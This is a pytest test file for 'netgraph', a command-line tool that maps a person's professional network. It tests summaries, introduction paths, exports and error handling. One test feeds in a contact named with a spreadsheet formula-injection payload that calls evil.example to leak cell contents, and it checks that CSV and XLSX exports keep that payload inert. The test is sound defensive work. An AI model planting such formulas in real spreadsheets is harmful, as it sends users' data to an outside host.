"""The command line: readable text, --json records, exit status 2 with one line on bad input."""

from __future__ import annotations

import argparse
import csv
import json
import math
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from netgraph.cli import main
from netgraph.io.load import load, sample_path


def run(capsys, *argv):
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def test_summary_text(capsys):
    status, out, err = run(capsys, "summary")
    assert status == 0
    assert "Jane Jones's network" in out and "Import:" in out


def test_summary_json(capsys):
    status, out, err = run(capsys, "summary", "--json")
    assert status == 0
    data = json.loads(out)
    for key in ("me", "targets", "people", "relationships", "interactions", "introductions", "companies",
                "reciprocity", "weighted_reciprocity"):
        assert key in data
    assert data["me"] == "Jane Jones" and data["targets"] == ["Novagen", "Helix Therapeutics"]


def test_overrides(capsys):
    status, out, _ = run(capsys, "summary", "--json", "--me", "Stan Whitfield", "--today", "2027-01-01",
                         "--targets", "Meridian Pharma, Corvid Bio")
    data = json.loads(out)
    assert (data["me"], data["today"], data["targets"]) == ("Stan Whitfield", "2027-01-01",
                                                           ["Meridian Pharma", "Corvid Bio"])


def test_export_and_reload(capsys, tmp_path):
    status, out, err = run(capsys, "export", "--format", "csv", "--out", str(tmp_path / "out"))
    assert status == 0 and out == "" and "wrote 6 files" in err
    status, out, _ = run(capsys, "summary", "--json", "--data", str(tmp_path / "out"))
    original = json.loads(run(capsys, "summary", "--json")[1])
    reloaded = json.loads(out)
    for key in ("people", "relationships", "interactions", "introductions", "companies", "reciprocity"):
        assert reloaded[key] == original[key]


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_export_files(capsys, tmp_path, fmt):
    assert run(capsys, "export", "--format", fmt, "--out", str(tmp_path / f"n.{fmt}"))[0] == 0
    assert (tmp_path / f"n.{fmt}").stat().st_size > 1000


def one_line_error(capsys, *argv):
    status, out, err = run(capsys, *argv)
    assert status == 2
    assert out == ""
    assert err.count("\n") == 1 and err.startswith("netgraph: ") and "Traceback" not in err
    return err


def test_bad_inputs_exit_2_with_one_line(capsys, tmp_path):
    err = one_line_error(capsys, "summary", "--data", str(tmp_path / "absent"))
    assert "absent" in err
    folder = shutil.copytree(sample_path(), tmp_path / "net")
    (folder / "netgraph.toml").write_text('me = "Jane\n')
    err = one_line_error(capsys, "summary", "--data", str(folder))
    assert "netgraph.toml:1" in err
    (folder / "netgraph.toml").write_text('me = "Jane Jones"\n')
    (folder / "ties.csv").write_text("a,c\nx,y\n")
    err = one_line_error(capsys, "summary", "--data", str(folder))
    assert "ties.csv:1" in err and "'b'" in err


def test_usage_errors_exit_2_with_one_line(capsys):
    one_line_error(capsys, "summary", "--no-such-flag")
    one_line_error(capsys, "export", "--format", "xlsx", "--out", "x")
    one_line_error(capsys, "frobnicate")
    one_line_error(capsys, "summary", "--today", "someday")


def test_bad_rows_are_reported_not_fatal(capsys, tmp_path):
    folder = shutil.copytree(sample_path(), tmp_path / "net")
    with open(folder / "interactions.csv", "a") as handle:
        handle.write("2026-13-01,me,Emma Clarke,email,other,\n")
    status, out, _ = run(capsys, "summary", "--data", str(folder))
    assert status == 0
    assert "1 skipped" in out and "interactions.csv" in out and "unreadable date" in out


def test_installed_command_runs():
    result = subprocess.run([sys.executable, "-m", "netgraph", "summary", "--json"], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["me"] == "Jane Jones"


def test_paths_json_is_the_functions_records(capsys, demo):
    import netgraph

    status, out, _ = run(capsys, "paths", "--to", "Helix Therapeutics", "--json", "--top", "3")
    assert status == 0
    expected = json.loads(json.dumps(netgraph.intro_paths(demo.graph, "Helix Therapeutics", top=3).to_dict()))
    assert json.loads(out) == expected


def test_paths_text_and_unknown_target(capsys):
    status, out, _ = run(capsys, "paths", "--to", "Novagen")
    assert status == 0 and out.startswith("Paths to Novagen:") and "Jane Jones ->" in out
    # nobody by that name: a usage error with the did-you-mean; somebody out of reach: no path, exit 0
    assert "Did you mean Novagen?" in one_line_error(capsys, "paths", "--to", "Novagn")
    assert "Did you mean Novagen?" in one_line_error(capsys, "paths", "--to", "Novagn", "--json")
    status, out, _ = run(capsys, "paths", "--to", "Helix Therapeutics", "--max-hops", "1", "--json")
    assert status == 0 and json.loads(out) == []


@pytest.mark.parametrize("command, keys", [
    ("weak-ties", {"rank", "contact", "score", "strength", "action", "why", "bridging", "reach", "targets",
                   "sweet_spot", "dormancy"}),
    ("reciprocity", {"contact", "sent", "received", "reciprocated", "balance", "asks", "favours_received",
                     "favours_given", "last_unanswered", "status"}),
    ("follow-ups", {"contact", "action", "why", "due", "overdue_days"}),
])
def test_analysis_json_records(capsys, command, keys):
    status, out, _ = run(capsys, command, "--json")
    assert status == 0
    records = json.loads(out)
    assert records and all(keys <= set(r) for r in records)


def test_json_equals_the_dataframe_records(capsys, demo):
    import netgraph

    status, out, _ = run(capsys, "weak-ties", "--json", "--top", "7")
    frame = netgraph.weak_ties(demo.graph, top=7)
    assert [r["contact"] for r in json.loads(out)] == frame["contact"].tolist()
    assert [r["score"] for r in json.loads(out)] == pytest.approx(frame["score"].tolist())
    status, out, _ = run(capsys, "reciprocity", "--json")
    assert [r["status"] for r in json.loads(out)] == netgraph.reciprocity(demo.graph)["status"].tolist()


@pytest.mark.slow
def test_analysis_text(capsys):
    assert "Diane Okafor" in run(capsys, "weak-ties", "--top", "5")[1]
    out = run(capsys, "reciprocity")[1]
    assert "reach out to you too" in out.splitlines()[0] and "Mark Delaney" in out
    out = " ".join(run(capsys, "follow-ups")[1].split())
    assert "how it went" in out and "Mark Delaney" in out
    out = run(capsys, "draft", "--to", "Daniel Weber")[1]
    assert out.startswith("To: Mary Lee") and "--- forwardable ---" in out
    assert "No company or person" in one_line_error(capsys, "draft", "--to", "Nowhere Inc")  # exit 2
    assert "Did you mean Novagen?" in one_line_error(capsys, "who", "--at", "nova")
    assert "Did you mean Novagen?" in one_line_error(capsys, "paths", "--to", "Novagn")
    assert json.loads(run(capsys, "draft", "--to", "Daniel Weber", "--json")[1])["to"] == "Mary Lee"


@pytest.mark.slow
def test_plot_and_html_commands(capsys, tmp_path):
    status, out, err = run(capsys, "plot", "--out", str(tmp_path / "map.png"), "--to", "Novagen")
    assert status == 0 and (tmp_path / "map.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    for kind in ("paths", "layers", "reciprocity", "decay"):
        assert run(capsys, "plot", "--out", str(tmp_path / f"{kind}.png"), "--kind", kind)[0] == 0
    status, out, err = run(capsys, "html", "--out", str(tmp_path / "map.html"), "--to", "Novagen")
    assert status == 0 and "<html" in (tmp_path / "map.html").read_text()[:2000].lower()
    one_line_error(capsys, "plot", "--out", str(tmp_path / "x.png"), "--kind", "nope")
    one_line_error(capsys, "plot", "--out", str(tmp_path / "x.png"), "--to", "Nowhere Inc")


# ---------------------------------------------------------------------------------------------
# Results as spreadsheets: --csv and --xlsx hold the rows of --json


MARKUP = Path(__file__).resolve().parent / "fixtures" / "markup"


def _as_json(value):
    """A spreadsheet cell as --json writes the value: dates as ISO text, nothing as null."""
    if value is None or (isinstance(value, float) and math.isnan(value)) or value is pd.NaT:
        return None
    if isinstance(value, pd.Timestamp):
        return value.date().isoformat() if value == value.normalize() else value.isoformat()
    return value.item() if hasattr(value, "item") else value


def _same_rows(records: list[dict], frame: pd.DataFrame) -> None:
    assert list(frame.columns) == list(records[0]) and len(frame) == len(records)
    for record, row in zip(records, frame.to_dict("records")):
        for key, value in record.items():
            cell = _as_json(row[key])
            if isinstance(value, list):  # lists are joined; paths' hops are JSON
                value = json.dumps(value, ensure_ascii=False) if value and isinstance(value[0], dict) \
                    else "; ".join(map(str, value)) or None
            value = None if value == "" else value  # a spreadsheet's empty cell is an empty text
            assert cell == pytest.approx(value) if isinstance(value, float) else cell == value, (key, cell, value)


@pytest.mark.parametrize("command", [["weak-ties"], ["reciprocity"], ["follow-ups"], ["paths", "--to", "Novagen"],
                                     ["contacts"], ["ties"], ["who", "--at", "Novagen"]])
def test_table_commands_write_the_rows_of_json_as_spreadsheets(capsys, tmp_path, command):
    status, out, err = run(capsys, *command, "--json", "--xlsx", str(tmp_path / "out.xlsx"),
                           "--csv", str(tmp_path / "out.csv"))
    assert status == 0 and f"wrote {tmp_path / 'out.xlsx'}" in err
    records = json.loads(out)
    _same_rows(records, pd.read_excel(tmp_path / "out.xlsx"))
    from_csv = pd.read_csv(tmp_path / "out.csv", keep_default_na=False, na_values=[""])
    assert list(from_csv.columns) == list(records[0]) and len(from_csv) == len(records)


def test_every_command_that_prints_a_table_writes_it_as_a_spreadsheet():
    """Every command with --json but the one-off ones (a draft, a share file) takes --xlsx; those of one table
    take --csv too."""
    from netgraph.cli import _parser

    commands = next(a for a in _parser()._actions if isinstance(a, argparse._SubParsersAction)).choices
    for name, parser in commands.items():
        options = {o for a in parser._actions for o in a.option_strings}
        if "--json" in options and name not in ("draft", "share"):
            assert "--xlsx" in options, name
            assert "--csv" in options or name in ("summary", "team"), name


def test_weak_ties_xlsx_opens_in_pandas_with_the_rows_of_json(capsys, tmp_path):
    """Issue 12's example, word for word: netgraph weak-ties --xlsx out.xlsx."""
    assert run(capsys, "weak-ties", "--xlsx", str(tmp_path / "out.xlsx"))[0] == 0
    records = json.loads(run(capsys, "weak-ties", "--json")[1])
    _same_rows(records, pd.read_excel(tmp_path / "out.xlsx"))


def test_spreadsheets_of_hostile_names_run_nothing(capsys, tmp_path):
    status, *_ = run(capsys, "reciprocity", "--data", str(MARKUP), "--csv", str(tmp_path / "r.csv"),
                     "--xlsx", str(tmp_path / "r.xlsx"))
    assert status == 0
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as handle:
        contacts = [row[0] for row in csv.reader(handle)]
    assert """'=HYPERLINK("http://evil.example/?leak="&A2)""" in contacts and "'-Minus Person" in contacts
    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    contacts = pd.read_excel(tmp_path / "r.xlsx")["contact"].tolist()
    assert '=HYPERLINK("http://evil.example/?leak="&A2)' in contacts and "-Minus Person" in contacts


def test_summary_writes_its_tables_as_sheets(capsys, tmp_path):
    assert run(capsys, "summary", "--xlsx", str(tmp_path / "summary.xlsx"))[0] == 0
    sheets = pd.read_excel(tmp_path / "summary.xlsx", sheet_name=None)
    assert list(sheets) == ["overview", "clusters", "strongest", "top_companies", "problems"]
    overview = dict(zip(sheets["overview"]["measure"], sheets["overview"]["value"]))
    assert overview["me"] == "Jane Jones" and int(overview["people"]) == 209
    assert list(sheets["problems"].columns) == ["file", "line", "reason", "skipped"]  # the demo has none


def test_the_summary_lists_every_problem_in_json_and_says_where_the_rest_are(capsys, tmp_path):
    rows = "".join(f"2026-01-{d:02d},me@x.org,ann@x.org\nyesterday,me@x.org,ann@x.org\n" for d in range(1, 6))
    (tmp_path / "people.csv").write_text("name,email\nMe Myself,me@x.org\nAnn Lee,ann@x.org\n")
    (tmp_path / "interactions.csv").write_text("date,from,to\n" + rows)
    (tmp_path / "netgraph.toml").write_text('me = "Me Myself"\n')
    status, out, _ = run(capsys, "summary", "--data", str(tmp_path))
    assert status == 0 and "... and 2 more (netgraph summary --json, or --xlsx FILE, lists them all)" in out
    problems = json.loads(run(capsys, "summary", "--json", "--data", str(tmp_path))[1])["problems"]
    assert [p["line"] for p in problems] == [3, 5, 7, 9, 11] and all(p["skipped"] for p in problems)
    one_line_error(capsys, "summary", "--csv", str(tmp_path / "summary.csv"))


# ---------------------------------------------------------------------------------------------
# A command line that fits


def test_a_date_that_reads_two_ways_is_refused(capsys):
    err = one_line_error(capsys, "summary", "--today", "01/11/2026")
    assert "YYYY-MM-DD" in err and "1 November 2026 or 11 January 2026" in err
    assert "(13 October 2026): give it as YYYY-MM-DD" in one_line_error(capsys, "summary", "--today", "13/10/2026")
    assert "no day of the calendar" in one_line_error(capsys, "summary", "--today", "13/13/2026")


def test_the_current_folder_is_the_network_when_it_holds_one(capsys, tmp_path, monkeypatch):
    (tmp_path / "people.csv").write_text("name,company\nMe Myself,\nAnn Lee,Globex\n")
    (tmp_path / "ties.csv").write_text("a,b\nMe Myself,Ann Lee\n")
    (tmp_path / "netgraph.toml").write_text('me = "Me Myself"\ntargetz = ["Globex"]\n')
    monkeypatch.chdir(tmp_path)
    status, out, err = run(capsys, "summary", "--json")
    assert status == 0 and json.loads(out)["me"] == "Me Myself"
    assert f"read the network in this folder ({tmp_path})" in err
    assert "unknown settings" in err and "targetz" in err  # a misspelt key is said, not ignored
    monkeypatch.chdir(tmp_path.parent)
    monkeypatch.setenv("NETGRAPH_DATA", str(tmp_path))
    assert json.loads(run(capsys, "summary", "--json")[1])["me"] == "Me Myself"


def test_a_folder_of_other_files_is_not_taken_for_the_network(capsys, tmp_path, monkeypatch):
    """/tmp or Downloads: a CSV that no reader knows does not make netgraph read every file below the folder."""
    (tmp_path / "t.csv").write_text("text,number\nx,0\n")
    (tmp_path / "archive.zip").write_bytes(b"PK\x05\x06" + bytes(18))  # an empty zip, no LinkedIn export
    (tmp_path / "below").mkdir()
    (tmp_path / "below" / "people.csv").write_text("name\nAnn Lee\n")  # would fail: nobody says who "me" is
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NETGRAPH_DATA", raising=False)
    status, out, err = run(capsys, "summary", "--json")
    assert status == 0 and json.loads(out)["me"] == "Jane Jones" and "no network here" in err
    (tmp_path / "Connections.csv").write_text("First Name,Last Name,URL,Email Address,Company,Position,"
                                              "Connected On\nAnn,Lee,,,Globex,CTO,01 Jan 2024\n")
    status, out, err = run(capsys, "summary", "--json", "--me", "Me Myself")
    assert status == 0 and f"read the network in this folder ({tmp_path}), not its subfolders" in err
    assert json.loads(out)["people"] == 2  # me and Ann: below/people.csv was not read


def test_a_folder_chosen_by_netgraph_is_named_when_reading_it_fails(capsys, tmp_path, monkeypatch):
    (tmp_path / "people.csv").write_text("name\nAnn Lee\n")  # nobody says who "me" is
    monkeypatch.chdir(tmp_path)
    assert f"(reading {tmp_path}: --data PATH reads another)" in one_line_error(capsys, "contacts")


def test_every_command_says_that_records_were_left_out(capsys, tmp_path):
    """Only the summary lists the problems; the other answers say that some rows are missing from them."""
    (tmp_path / "people.csv").write_text("name,email\nMe Myself,me@x.org\nAnn Lee,ann@x.org\n")
    (tmp_path / "interactions.csv").write_text("date,from,to\n2026-01-01,me@x.org,ann@x.org\n"
                                               "yesterday,me@x.org,ann@x.org\n")
    (tmp_path / "netgraph.toml").write_text('me = "Me Myself"\n')
    status, out, err = run(capsys, "contacts", "--data", str(tmp_path))
    assert status == 0 and "Ann Lee" in out
    assert "1 record of your files was left out (netgraph summary says which, with file, line and why)" in err
    status, out, err = run(capsys, "summary", "--data", str(tmp_path))
    assert "left out" not in err and "interactions.csv" in out  # listed there, with its line


def test_help_and_version_import_nothing_heavy():
    code = ("import sys; from netgraph.cli import main\ntry:\n    main(['--version'])\nexcept SystemExit:\n    pass\n"
            "print(sorted(m for m in ('pandas', 'networkx', 'matplotlib') if m in sys.modules))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip().endswith("[]"), done.stdout


def test_follow_ups_say_when_in_words(capsys):
    from netgraph.cli import _when

    assert [_when(5), _when(0), _when(-1), _when(-5)] == ["5 days overdue", "due today", "due in 1 day",
                                                          "due in 5 days"]
    out = " ".join(run(capsys, "follow-ups", "--kind", "nudge")[1].split())
    assert "Nudge Mary Lee about Daniel Weber" in out and "overdue" in out


def test_the_cli_choices_are_the_analyses():
    from netgraph.analysis.follow_ups import KINDS
    from netgraph.analysis.state import STATUSES
    from netgraph.cli import FIGURES, FOLLOW_UP_KINDS
    from netgraph.cli import STATUSES as CLI_STATUSES
    from netgraph.viz.plot import KINDS as PLOTS

    assert (FOLLOW_UP_KINDS, CLI_STATUSES, FIGURES) == (KINDS, STATUSES, PLOTS)


def test_ties_below_the_floor_list_each_pair_once(capsys):
    """Below the build's floor the command adds the pairs only the evidence touches; a pair the graph holds as
    observed (a stronger sign) is not listed again as inferred."""
    rows = json.loads(run(capsys, "ties", "--min-confidence", "0", "--json")[1])
    pairs = [frozenset((r["a"], r["b"])) for r in rows]
    assert len(pairs) == len(set(pairs))
    assert {r["basis"] for r in rows} >= {"observed", "inferred"}
    # by default, the pairs the graph holds: as sure as the evidence model's floor
    held = json.loads(run(capsys, "ties", "--json")[1])
    floor = load(sample_path()).graph.graph["min_confidence"]
    assert 0 < len(held) < len(rows) and min(r["confidence"] for r in held) >= floor > 0


def test_a_me_with_no_contact_in_the_files_is_a_warning_of_every_command(capsys, tmp_path):
    (tmp_path / "people.csv").write_text("name,company\nAnn Lee,Globex\nBo Chan,Initech\n")
    (tmp_path / "ties.csv").write_text("a,b\nAnn Lee,Bo Chan\n")
    status, out, err = run(capsys, "contacts", "--data", str(tmp_path), "--me", "Zed Zulu")
    assert status == 0 and "me is 'Zed Zulu', who has no contact in the files read" in err
    status, out, err = run(capsys, "summary", "--data", str(tmp_path), "--me", "Ann Lee")
    assert "warning" not in err and "Import: 2 files," in out  # the files read, not the report's own entries


def test_the_contact_sheet_says_layers_and_no_contact_in_words(capsys):
    out = run(capsys, "contacts")[1]
    assert "acquaintance" in out and "never in touch" in out
    rows = json.loads(run(capsys, "contacts", "--json")[1])
    assert {r["layer"] for r in rows} <= {0, 5, 15, 50, 150}  # the number stays in the JSON
